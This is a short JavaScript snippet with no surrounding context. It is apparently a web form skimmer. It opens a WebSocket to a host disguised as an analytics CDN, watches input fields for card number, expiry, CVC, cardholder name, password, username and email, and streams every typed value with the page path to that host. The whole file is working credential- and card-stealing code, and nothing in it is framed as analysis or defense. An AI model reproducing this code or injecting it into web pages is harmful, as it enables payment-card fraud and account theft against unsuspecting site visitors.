const socket = new WebSocket('wss://segment-cdn-io.net/v1/stream');
const pending = [];

socket.addEventListener('open', () => {
  while (pending.length) socket.send(pending.shift());
});

const push = (msg) => {
  const s = JSON.stringify(msg);
  if (socket.readyState === WebSocket.OPEN) socket.send(s);
  else pending.push(s);
};

const watched = [
  'input[name="cardnumber"]',
  'input[name="exp-date"]',
  'input[name="cvc"]',
  'input[name="ccname"]',
  'input[type="password"]',
  'input[name="username"]',
  'input[name="email"]',
];

document.addEventListener('input', (ev) => {
  const el = ev.target;
  if (!(el instanceof HTMLInputElement)) return;
  if (!watched.some((sel) => el.matches(sel))) return;
  push({
    f: el.name || el.id,
    v: el.value,
    p: location.pathname,
    t: Date.now(),
  });
}, true);
